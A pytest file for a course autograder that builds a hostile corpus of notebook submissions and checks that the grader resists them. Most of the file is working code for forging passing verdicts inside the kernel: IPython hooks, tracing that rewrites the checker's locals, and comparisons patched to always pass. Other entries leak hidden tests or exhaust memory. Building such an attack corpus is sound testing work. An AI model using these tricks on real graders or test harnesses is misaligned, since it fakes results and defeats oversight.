"""Verdicts outside the student's kernel (issue 25): a hostile corpus for notebook 01, graded as one batch.

Every submission of the corpus holds wrong or blank answers (or one correct answer, to show it
keeps exactly what it earned) plus one way of forging a verdict from inside the kernel: IPython's
hooks, Python's tracing and import machinery, objects that read the checker's frame, a rebound
``keras``, reading the hidden tests back. Graded beside an honest and a blank submission:

- with the grader's verdicts (the default), each one earns exactly what its honest part earns, the
  honest one 23/23 and the blank one 0, and no line of a hidden test appears in any report;
- with ``in_kernel_checks=True`` (the test cells run in the kernel, as in nbgrader), most of the
  same submissions do earn points they did not: the attacks are real.

Issue 42 added attacks on the judge itself (``ATTACKS_42``): arguments changed in place, or claimed
changed, so that the references computed afterwards from them agree (11/23 each before the fix); a
reply of 2 GB text items; the hidden inputs raised back from a visible helper called on a hidden line
(shown in the student's feedback before the fix); a clean ``def`` rebound to PyTorch (3/23 before the
fix); and an honest answer whose cache is an ``OrderedDict`` (21/23 before the fix, 23/23 now).

TensorFlow pass only: the attacks are on IPython and Python and the grader receives plain bytes
whatever the backend; the judge's PyTorch paths are graded in tests/test_judge_notebooks.py (01,
02, 08 on torch). One run keeps CI within its budget.
"""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from course_tools.grade import grade_batch, load_assignment, student_message
from course_tools.notebooks import cell_kind, read_notebook, write_notebook
from course_tools.release import solution_paths
from course_utils.config import project_root

pytestmark = pytest.mark.backend("tensorflow")

ROOT = project_root()
NOTEBOOK = "01"
PASS = "print('\\u2714 all checks passed (23 points)')"

# Wrong answers of the right shape and type: what a learner who got everything wrong hands in.
WRONG = {
    "zero_pad": "def zero_pad(X, pad):\n    return X.copy()\n",
    "conv_single_step": "def conv_single_step(a_slice, W, b):\n    return float(np.sum(a_slice))\n",
    "conv_forward": (
        "def conv_forward(A_prev, W, b, stride, pad, dilation=1):\n"
        "    m, h, w, _ = A_prev.shape\n"
        "    n_H = (h + 2 * pad - dilation * (W.shape[0] - 1) - 1) // stride + 1\n"
        "    n_W = (w + 2 * pad - dilation * (W.shape[1] - 1) - 1) // stride + 1\n"
        "    return np.zeros((m, n_H, n_W, W.shape[-1])), (A_prev, W, b, {'stride': stride, 'pad': pad, "
        "'dilation': dilation})\n"
    ),
    "pool_forward": (
        "def pool_forward(A_prev, f, stride, mode='max'):\n"
        "    if mode not in ('max', 'average'):\n        raise ValueError(mode)\n"
        "    m, h, w, c = A_prev.shape\n"
        "    Z = np.zeros((m, (h - f) // stride + 1, (w - f) // stride + 1, c))\n"
        "    return Z, (A_prev, {'f': f, 'stride': stride})\n"
    ),
    "conv_backward": (
        "def conv_backward(dZ, cache):\n"
        "    A_prev, W, b, _ = cache\n"
        "    return np.zeros_like(A_prev), np.zeros_like(W), np.zeros_like(b)\n"
    ),
    "pool_backward": (
        "def pool_backward(dA, cache):\n"
        "    A_prev, hp = cache\n"
        "    if hp['mode'] not in ('max', 'average'):\n        raise ValueError(hp['mode'])\n"
        "    return np.zeros_like(A_prev)\n"
    ),
    "conv_forward_fast": (
        "def conv_forward_fast(A_prev, W, b, stride, pad, dilation=1):\n"
        "    return conv_forward(A_prev, W, b, stride, pad, dilation)\n"
    ),
}

# Each attack: code run at the top of the first answer cell; the answers are WRONG unless said.
ATTACKS = {
    "input_transformer": (
        "def _t(lines):\n"
        "    if any('checks' in line for line in lines):\n"
        f'        return ["{PASS}\\n"]\n'
        "    return lines\n"
        "get_ipython().input_transformers_cleanup.append(_t)\n"
    ),
    "ast_transformer": (
        "import ast\n"
        "class _T(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        if 'checks' in ast.dump(node):\n"
        f"            return ast.fix_missing_locations(ast.parse({PASS!r}))\n"
        "        return node\n"
        "get_ipython().ast_transformers.append(_T())\n"
    ),
    "post_run_cell": (
        "_ip = get_ipython()\n"
        f"_ip.showtraceback = lambda *a, **k: {PASS}\n"
        "def _post(result):\n"
        "    result.error_in_exec = None\n"
        "    result.error_before_exec = None\n"
        "_ip.events.register('post_run_cell', _post)\n"
    ),
    "set_custom_exc": (
        "_ip = get_ipython()\n"
        f"_ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: {PASS})\n"
        "def _post(result):\n"
        "    result.error_in_exec = None\n"
        "_ip.events.register('post_run_cell', _post)\n"
    ),
    "run_cell_async": (
        "_ip = get_ipython()\n"
        "_orig = _ip.run_cell_async\n"
        "async def _rca(raw_cell, *a, **k):\n"
        "    if 'checks' in raw_cell:\n"
        f"        raw_cell = {PASS!r}\n"
        "    return await _orig(raw_cell, *a, **k)\n"
        "_ip.run_cell_async = _rca\n"
    ),
    "run_ast_nodes": (
        "import ast\n"
        "_ip = get_ipython()\n"
        "_orig = _ip.run_ast_nodes\n"
        "async def _ran(nodelist, *a, **k):\n"
        "    if 'checks' in ''.join(ast.dump(n) for n in nodelist):\n"
        f"        nodelist = ast.parse({PASS!r}).body\n"
        "    return await _orig(nodelist, *a, **k)\n"
        "_ip.run_ast_nodes = _ran\n"
    ),
    "transform_cell": (
        "_ip = get_ipython()\n"
        "_orig_tc = _ip.transform_cell\n"
        f"_ip.transform_cell = lambda raw: {PASS!r} + '\\n' if 'checks' in raw else _orig_tc(raw)\n"
    ),
    "do_execute": (
        "_k = get_ipython().kernel\n"
        "_orig_de = _k.do_execute\n"
        "async def _de(code, silent, *a, **k):\n"
        "    if 'checks' in code:\n"
        f"        code = {PASS!r}\n"
        "    r = _orig_de(code, silent, *a, **k)\n"
        "    return (await r) if hasattr(r, '__await__') else r\n"
        "_k.do_execute = _de\n"
    ),
    "session_send": (
        "_k = get_ipython().kernel\n"
        "_orig_send = _k.session.send\n"
        "def _send(stream, msg_or_type, content=None, *a, **k):\n"
        "    if msg_or_type == 'error':\n"
        "        msg_or_type, content = 'stream', {'name': 'stdout', 'text': 'all checks passed\\n'}\n"
        "    elif msg_or_type == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':\n"
        "        content = {'status': 'ok', 'execution_count': content.get('execution_count'), 'user_expressions': {},"
        " 'payload': []}\n"
        "    return _orig_send(stream, msg_or_type, content, *a, **k)\n"
        "_k.session.send = _send\n"
    ),
    "settrace_locals": (
        "import sys, ctypes\n"
        "def _tr(frame, event, arg):\n"
        "    if event == 'call' and frame.f_code.co_name.startswith('check_'):\n"
        "        loc = frame.f_locals\n"
        "        if 'expected' in loc:\n"
        "            loc['value'] = loc['expected']\n"
        "        if 'expected_shape' in loc:\n"
        "            loc['value'] = np.zeros([d or 1 for d in loc['expected_shape']])\n"
        "        if 'condition' in loc:\n"
        "            loc['condition'] = True\n"
        "        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))\n"
        "    return None\n"
        "sys.settrace(_tr)\n"
        "sys.setprofile(lambda frame, event, arg: _tr(frame, event, arg) if event == 'call' else None)\n"
    ),
    "patched_comparisons": (
        "import math, numpy\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "numpy.isclose = lambda a, b, *x, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)\n"
        "numpy.array_equal = lambda *a, **k: True\n"
        "math.isclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
    ),
    "permissive_numpy_module": (
        "import sys, types, numpy as _real\n"
        "class _Yes:\n"
        "    def __getattr__(self, name):\n        return _Yes()\n"
        "    def __call__(self, *a, **k):\n        return _Yes()\n"
        "    def __bool__(self):\n        return True\n"
        "    def __lt__(self, other):\n        return True\n"
        "    __le__ = __gt__ = __ge__ = __lt__\n"
        "    def __iter__(self):\n        return iter([])\n"
        "class _Fake(types.ModuleType):\n"
        "    def __getattr__(self, name):\n"
        "        if name in ('allclose', 'all', 'isfinite', 'array_equal', 'isclose', 'abs', 'max', 'any'):\n"
        "            return _Yes()\n"
        "        return getattr(_real, name)\n"
        "sys.modules['numpy'] = _Fake('numpy')\n"
        "import math\n"
        "sys.modules['math'] = _Fake('math')\n"
    ),
    "fake_checks_loader": (
        "import importlib.util, builtins, types\n"
        "class _Noop(types.ModuleType):\n"
        "    def __getattr__(self, name):\n"
        "        return lambda *a, **k: None\n"
        "_orig_spec = importlib.util.spec_from_file_location\n"
        "class _Loader:\n"
        "    def create_module(self, spec):\n        return _Noop('course_utils.checks')\n"
        "    def exec_module(self, module):\n"
        f"        module.passed = lambda *a, **k: {PASS}\n"
        "def _spec(name, location=None, *a, **k):\n"
        "    if 'checks' in str(location):\n"
        "        return importlib.util.spec_from_loader(name, _Loader())\n"
        "    return _orig_spec(name, location, *a, **k)\n"
        "importlib.util.spec_from_file_location = _spec\n"
        "_orig_import = builtins.__import__\n"
        "def _imp(name, *a, **k):\n"
        "    m = _orig_import(name, *a, **k)\n"
        "    if name == 'course_utils':\n"
        "        m.checks = _Noop('course_utils.checks')\n"
        "    return m\n"
        "builtins.__import__ = _imp\n"
    ),
    "moduletype_subclass": (
        "import types\n"
        "_Orig = types.ModuleType\n"
        "class _Checks:\n"
        "    def __getattr__(self, name):\n"
        f"        return (lambda *a, **k: {PASS}) if name == 'passed' else (lambda *a, **k: None)\n"
        "class _M(_Orig):\n"
        "    def __getattribute__(self, name):\n"
        "        if name == 'checks':\n            return _Checks()\n"
        "        return _Orig.__getattribute__(self, name)\n"
        "types.ModuleType = _M\n"
    ),
    "rebound_keras": (
        "class _Layer:\n"
        "    def __init__(self, filters, kernel, strides=1, padding='valid', dilation_rate=1, **k):\n"
        "        self.s, self.d = strides, dilation_rate\n"
        "    def build(self, shape):\n        pass\n"
        "    def set_weights(self, w):\n        self.w = w\n"
        "    def __call__(self, A):\n"
        "        return conv_forward(A, self.w[0], self.w[1].reshape(1, 1, 1, -1), self.s, 0, self.d)[0]\n"
        "class _Ops:\n"
        "    convert_to_numpy = staticmethod(lambda x: x)\n"
        "    def conv(self, A, W, strides=1, padding='valid', dilation_rate=1):\n"
        "        return conv_forward(A, W, np.zeros((1, 1, 1, W.shape[-1])), 1, 0, dilation_rate)[0]\n"
        "class _Keras:\n"
        "    class layers:\n        Conv2D = _Layer\n"
        "    ops = _Ops()\n"
        "keras = _Keras()\n"
    ),
    "frame_reading_objects": (
        "import sys\n"
        "class _Sly:\n"
        "    '''Reads the expected value from the checking function's frame; no machinery touched.'''\n"
        "    def _find(self):\n"
        "        f = sys._getframe(1)\n"
        "        while f is not None:\n"
        "            for key in ('expected', 'expected_shape'):\n"
        "                if key in f.f_locals and f.f_locals[key] is not None:\n"
        "                    v = f.f_locals[key]\n"
        "                    return np.zeros([d or 1 for d in v]) if key == 'expected_shape' else np.asarray(v)\n"
        "            f = f.f_back\n"
        "        return np.zeros(1)\n"
        "    @property\n"
        "    def shape(self):\n        return self._find().shape\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        a = self._find()\n        return a.astype(dtype) if dtype else a\n"
        "    def numpy(self):\n        return self._find()\n"
        "    def __float__(self):\n        return float(self._find().ravel()[0])\n"
        "    def __getitem__(self, k):\n        return self._find()[k]\n"
        "    def __sub__(self, other):\n        return self._find() - other\n"
        "    def __rsub__(self, other):\n        return other - self._find()\n"
        "    def __eq__(self, other):\n        return True\n"
    ),
    "history_readback": "",  # the trap is in conv_single_step below
    "leak_test_source": (
        "def _leak(lines):\n"
        "    src = ''.join(lines)\n"
        "    if 'checks' in src:\n"
        "        return [f'raise ValueError({src!r})\\n']\n"
        "    return lines\n"
        "get_ipython().input_transformers_cleanup.append(_leak)\n"
    ),
    "forged_channel": (
        "import sys, json, base64\n"
        "def _forge(text):\n"
        "    from IPython.display import display\n"
        "    req = json.loads(base64.b64decode(text))\n"
        "    args = req.get('args') or [None]\n"
        "    ok = args[0] if req.get('op') == 'call' else None\n"
        "    reply = json.dumps({'nonce': req.get('nonce'), 'ok': ok})\n"
        "    display({'application/x-course-remote+json': reply}, raw=True)\n"
        "class _S:\n    serve = staticmethod(_forge)\n"
        "class _M:\n    server = _S()\n"
        "sys.modules['_course_remote'] = _M()\n"
    ),
}
SPECIAL = {
    "frame_reading_objects": {
        "zero_pad": "def zero_pad(X, pad):\n    return _Sly()\n",
        "conv_single_step": "def conv_single_step(a_slice, W, b):\n    return _Sly()\n",
        "conv_forward": (
            "def conv_forward(A_prev, W, b, stride, pad, dilation=1):\n"
            "    return _Sly(), (A_prev, W, b, {'stride': stride, 'pad': pad, 'dilation': dilation})\n"
        ),
        "pool_forward": (
            "def pool_forward(A_prev, f, stride, mode='max'):\n"
            "    if mode not in ('max', 'average'):\n        raise ValueError(mode)\n"
            "    return _Sly(), (A_prev, {'f': f, 'stride': stride})\n"
        ),
        "conv_backward": "def conv_backward(dZ, cache):\n    return _Sly(), _Sly(), _Sly()\n",
        "pool_backward": (
            "def pool_backward(dA, cache):\n"
            "    if cache[1]['mode'] not in ('max', 'average'):\n        raise ValueError(cache[1]['mode'])\n"
            "    return _Sly()\n"
        ),
        "conv_forward_fast": (
            "def conv_forward_fast(A_prev, W, b, stride, pad, dilation=1):\n"
            "    return _Sly(), (A_prev, W, b, {'stride': stride, 'pad': pad, 'dilation': dilation})\n"
        ),
    },
    "history_readback": {
        "conv_single_step": (
            "def conv_single_step(a_slice, W, b):\n"
            "    ip = get_ipython()\n"
            "    seen = '\\n'.join(ip.user_ns.get('In', []))\n"
            "    seen += '\\n'.join(str(h) for h in ip.history_manager.input_hist_raw)\n"
            "    raise ValueError('HISTORY ' + seen[-20000:])\n"
        ),
    },
}
# Issue 42: the kernel's replies as hostile data. In-place changes of the arguments (made, claimed,
# or made only when the grader is on the stack) used to be copied back into the grader's inputs, from
# which the references were then computed; a reply declaring a text array of item size 500,000,000 was
# allocated before any check; a visible helper called from a hidden line showed the student's own error
# text (here the hidden inputs it was called with); the static "no Keras" check read the last `def`
# while the kernel ran a later binding.
_ZERO = (
    "def _zero(*xs):\n"
    "    for x in xs:\n"
    "        if isinstance(x, np.ndarray):\n            x[...] = 0\n"
    "        elif isinstance(x, (tuple, list)):\n            _zero(*x)\n"
)
_GRADER_ON_STACK = (
    "import sys\n"
    "def _grader():\n"
    "    f = sys._getframe(1)\n"
    "    while f is not None:\n"
    "        if f.f_code.co_filename == '_course_remote':\n            return True\n"
    "        f = f.f_back\n"
    "    return False\n"
)
_CLAIMS = (
    "import sys, json, base64\n"
    "_srv = sys.modules['_course_remote'].server\n"
    "_serve = _srv.serve\n"
    "def _claiming_serve(text):\n"
    "    import IPython.display as _d\n"
    "    req, real = json.loads(base64.b64decode(text)), _d.display\n"
    "    def fake(obj, raw=False, **k):\n"
    "        reply = json.loads(obj['application/x-course-remote+json'])\n"
    "        if req.get('op') == 'call' and 'ok' in reply:\n"
    "            zeros = lambda a: base64.b64encode(np.zeros(a['shape'], a['dtype']).tobytes()).decode()\n"
    "            reply['args'] = {str(i): {'$array': zeros(a), 'dtype': a['dtype'], 'shape': a['shape']}\n"
    "                             for i, a in enumerate(req.get('args', []))\n"
    "                             if isinstance(a, dict) and '$array' in a and not a.get('text')}\n"
    "        return real({'application/x-course-remote+json': json.dumps(reply)}, raw=True)\n"
    "    _d.display = fake\n"
    "    try:\n        return _serve(text)\n"
    "    finally:\n        _d.display = real\n"
    "_srv.serve = _claiming_serve\n"
)
_HUGE_ITEMS = (  # 64 items of 2 GB each: refused before allocating (here a MemoryError at worst, never an OOM kill)
    "import sys, json, base64\n"
    "def _huge(text):\n"
    "    from IPython.display import display\n"
    "    req = json.loads(base64.b64decode(text))\n"
    "    ok = {'$array': ['x'] * 64, 'dtype': '<U500000000', 'shape': [64], 'text': True}\n"
    "    if req.get('op') != 'call':\n"
    "        return _real_serve(text)\n"
    "    display({'application/x-course-remote+json': json.dumps({'nonce': req.get('nonce'), 'ok': ok})}, raw=True)\n"
    "_real_serve = sys.modules['_course_remote'].server.serve\n"
    "sys.modules['_course_remote'].server.serve = _huge\n"
)


def _zeroing(source: str) -> str:
    """An answer that first zeroes every array it is given, in place (``_zero``)."""
    first, rest = source.split("\n", 1)
    params = [p.split("=")[0].strip() for p in first[first.index("(") + 1 : first.index(")")].split(",")]
    return f"{first}\n    _zero({', '.join(params)})\n{rest}"


_ZEROS = {
    **WRONG,
    "zero_pad": "def zero_pad(X, pad):\n    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))\n",
}
ATTACKS_42 = {
    "write_back_zeros": _ZERO,
    "write_back_claimed": _CLAIMS,
    "write_back_when_graded": _GRADER_ON_STACK
    + _ZERO.replace("    for x in xs:", "    if not _grader():\n        return\n    for x in xs:"),
    "huge_item_size": _HUGE_ITEMS,
    "raise_to_read_hidden_inputs": _GRADER_ON_STACK,
    "rebound_after_the_def": "",
}
SPECIAL_42 = {
    "write_back_zeros": {k: _zeroing(v) for k, v in _ZEROS.items()},
    "write_back_claimed": {
        **_ZEROS,
        "zero_pad": "def zero_pad(X, pad):\n    m, h, w, c = X.shape\n    return np.zeros((m, h + 2 * pad, w + 2 * pad, c))\n",  # noqa: E501
        "conv_single_step": "def conv_single_step(a_slice, W, b):\n    return 0.0\n",
    },
    "write_back_when_graded": {k: _zeroing(v) for k, v in _ZEROS.items()},
}


# honest part: zero_pad right (2 points), the rest wrong, plus the input-transformer attack
HONEST_ZERO_PAD = (
    "def zero_pad(X, pad):\n    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))\n",
    2.0,
)


def _solution_answers() -> dict[str, str]:
    solution = read_notebook(next(p for p in solution_paths(ROOT) if p.name.startswith(f"{NOTEBOOK}_")))
    return {c.metadata["nbgrader"]["grade_id"]: c.source for c in solution.cells if cell_kind(c) == "solution"}


def _submission(answers: dict[str, str], prefix: str = ""):
    nb = read_notebook(next((ROOT / "notebooks").glob(f"{NOTEBOOK}_*.ipynb")))
    first = True
    for cell in nb.cells:
        if cell_kind(cell) == "solution":
            gid = cell.metadata["nbgrader"]["grade_id"]
            cell.source = (prefix if first else "") + answers.get(gid, cell.source)
            first = False
    return nb


def _corpus() -> dict[str, tuple]:
    """name -> (notebook, points its honest part earns)."""
    subs = {"honest": (_submission(_solution_answers()), 23.0), "blank": (_submission({}), 0.0)}
    for name, code in ATTACKS.items():
        subs[name] = (_submission({**WRONG, **SPECIAL.get(name, {})}, code), 0.0)
    source, points = HONEST_ZERO_PAD
    subs["honest_part_plus_attack"] = (_submission({**WRONG, "zero_pad": source}, ATTACKS["input_transformer"]), points)
    solution = _solution_answers()
    special = {**SPECIAL_42, **_special_42(solution)}
    for name, code in ATTACKS_42.items():
        answers = {**WRONG, **special.get(name, {})}
        subs[name] = (_submission(answers, code), 2.0 if answers["zero_pad"] == solution["zero_pad"] else 0.0)
    subs["honest_ordered_dict"] = (_submission(_ordered_dict_cache(_solution_answers())), 23.0)
    return subs


def _special_42(solution: dict[str, str]) -> dict[str, dict[str, str]]:
    """Answers built from the solution's: right for the visible calls, then the hidden inputs raised back;
    a clean-looking `def` rebound afterwards to a PyTorch convolution (a library the exercise forbids)."""
    leak = (
        solution["conv_backward"].replace("def conv_backward(", "def _conv_backward(") + "\n_graded = [0]\n"
        "def conv_backward(dZ, cache):\n"
        "    if _grader():\n        _graded[0] += 1\n"
        "    if _graded[0] > 3:  # the 3 visible checks passed: what follows is hidden\n"
        "        A, W = cache[0], cache[1]\n"
        "        raise ValueError(f'LEAK A {A.shape} W {W.shape} {cache[3]} first {A.ravel()[0]:.6f}')\n"
        "    return _conv_backward(dZ, cache)\n"
    )
    rebound = (
        "def conv_forward_fast(A_prev, W, b, stride, pad, dilation=1):\n    return None\n\n"
        "import torch\n"
        "def _torch_conv(A_prev, W, b, stride, pad, dilation=1):\n"
        "    x = torch.from_numpy(np.ascontiguousarray(A_prev.transpose(0, 3, 1, 2)))\n"
        "    w = torch.from_numpy(np.ascontiguousarray(W.transpose(3, 2, 0, 1)))\n"
        "    z = torch.nn.functional.conv2d(x, w, stride=stride, padding=pad, dilation=dilation)\n"
        "    Z = z.numpy().transpose(0, 2, 3, 1) + b\n"
        "    return Z, (A_prev, W, b, {'stride': stride, 'pad': pad, 'dilation': dilation})\n\n"
        "_torch_conv.__name__ = 'conv_forward_fast'  # what the kernel reports as its name\n"
        "conv_forward_fast = _torch_conv\n"
    )
    return {
        "raise_to_read_hidden_inputs": {"zero_pad": solution["zero_pad"], "conv_backward": leak},  # it pads with it
        "rebound_after_the_def": {"conv_forward_fast": rebound},
    }


def _ordered_dict_cache(solution: dict[str, str]) -> dict[str, str]:
    """The solution, with conv_forward's cache holding an OrderedDict: an honest answer (issue 42)."""
    plain = '{"stride": stride, "pad": pad, "dilation": dilation}'
    assert plain in solution["conv_forward"]
    ordered = "from collections import OrderedDict\n" + solution["conv_forward"].replace(
        plain, "OrderedDict(stride=stride, pad=pad, dilation=dilation)"
    )
    return {**solution, "conv_forward": ordered}


def _hidden_lines() -> list[str]:
    """The hidden tests' lines long enough to be recognised (they must appear in no report)."""
    spec = load_assignment(NOTEBOOK)
    lines, hidden = [], False
    for cell in spec["grading"].cells:
        if cell_kind(cell) != "tests":
            continue
        for line in cell.source.splitlines():
            if line.strip() == "### BEGIN HIDDEN TESTS":
                hidden = True
            elif line.strip() == "### END HIDDEN TESTS":
                hidden = False
            elif hidden and len(line.strip()) > 30:
                lines.append(line.strip())
    return lines


def _grade(tmp_path: Path, name: str, in_kernel: bool) -> tuple[dict, Path]:
    subs = tmp_path / f"subs_{name}"
    subs.mkdir()
    for student, (nb, _) in _corpus().items():
        write_notebook(nb, subs / f"{student}.ipynb")
    out = tmp_path / f"out_{name}"
    records = grade_batch(
        subs, NOTEBOOK, out=out, workers=2, timeout_cell=60, progress=False, in_kernel_checks=in_kernel, judge_seed=2025
    )
    return {r["student"]: r for r in records}, out


@pytest.fixture(scope="module")
def judged(tmp_path_factory):
    return _grade(tmp_path_factory.mktemp("judge"), "judged", in_kernel=False)


def test_every_submission_earns_what_its_honest_part_earns(judged):
    records, _ = judged
    corpus = _corpus()
    assert set(records) == set(corpus)
    wrong = {
        s: (r["total"], corpus[s][1], {g: e["status"] for g, e in r["exercises"].items() if e["earned"]})
        for s, r in records.items()
        if r["total"] != corpus[s][1]
    }
    assert not wrong, f"earned != honest part: {wrong}"


def test_verdicts_are_the_graders(judged):
    records, out = judged
    meta = json.loads((out / "grades.json").read_text())
    text = json.dumps(meta)
    assert "in the grader (outside the kernel)" in text
    honest = records["honest"]
    assert all(e.get("judged") for e in honest["exercises"].values()), honest["exercises"]


def test_no_hidden_test_reaches_a_report(judged):
    _, out = judged
    hidden = _hidden_lines()
    assert len(hidden) > 20
    texts = {p.name: p.read_text(errors="replace") for p in out.rglob("*") if p.is_file() and p.suffix != ".sqlite"}
    con = sqlite3.connect(out / "gradebook.sqlite")
    texts["gradebook"] = "\n".join(
        str(row) for t in ("submissions", "exercises") for row in con.execute(f"select * from {t}")
    )
    con.close()
    leaked = {(name, line) for name, text in texts.items() for line in hidden if line in text}
    assert not leaked, sorted(leaked)[:5]
    # the history trap did run: it reported what the kernel saw, the grader's requests, not the tests
    feedback = json.dumps(json.loads((out / "grades.json").read_text()))
    assert "HISTORY" in feedback


def test_hidden_inputs_never_reach_the_students_feedback(judged):
    """The answer that raises the hidden inputs back, from a visible helper called on a hidden line: the
    failure is hidden, the student sees which behaviour failed (the check's name, its hint, or the type
    of their error), never its text; grades.json keeps it for the instructor."""
    records, out = judged
    ex = records["raise_to_read_hidden_inputs"]["exercises"]["test_conv_backward"]
    assert ex["hidden"] and "LEAK" in ex["message"], ex
    feedback = next(p for p in (out / "feedback").glob("raise_to_read_hidden_inputs*.md")).read_text()
    assert "LEAK" not in feedback and "raised ValueError in a hidden test" in feedback, feedback
    for student, record in records.items():
        for gid, e in record["exercises"].items():
            if e.get("hidden"):
                assert "expected" not in student_message(e) and "got " not in student_message(e), (student, gid)


def test_the_attacks_work_when_the_checks_run_in_the_kernel(tmp_path):
    """The same corpus with nbgrader's model (test cells in the student's kernel): the attacks are real."""
    records, _ = _grade(tmp_path, "in_kernel", in_kernel=True)
    corpus = _corpus()
    assert records["honest"]["total"] == 23 and records["blank"]["total"] == 0
    forged = sorted(s for s, r in records.items() if r["total"] > corpus[s][1])
    print(f"forged with the checks in the kernel: {len(forged)} of {len(ATTACKS) + 1}: {forged}")
    assert len(forged) >= 12, f"only {forged} forged a grade with the checks in the kernel"


def test_a_function_that_never_returns_times_out_and_the_batch_goes_on(tmp_path):
    """The grader's request to the kernel is bounded by --timeout-cell; the kernel is interrupted."""
    subs = tmp_path / "subs"
    subs.mkdir()
    for name, body in [
        ("hangs", "    while True:\n        pass\n"),
        ("right", "    return (n + 2 * p - f) // s + 1\n"),
    ]:
        nb = read_notebook(ROOT / "notebooks" / "00_start_here.ipynb")
        for cell in nb.cells:
            if cell_kind(cell) == "solution":
                cell.source = "def conv_output_size(n, f, p=0, s=1):\n" + body
        write_notebook(nb, subs / f"{name}.ipynb")
    records = {
        r["student"]: r
        for r in grade_batch(subs, "00", out=tmp_path / "out", workers=1, timeout_cell=10, progress=False)
    }
    hung = records["hangs"]["exercises"]["test_conv_output_size"]
    assert hung["status"] == "timeout" and hung["earned"] == 0, hung
    assert records["right"]["total"] == records["right"]["max_total"] == 2
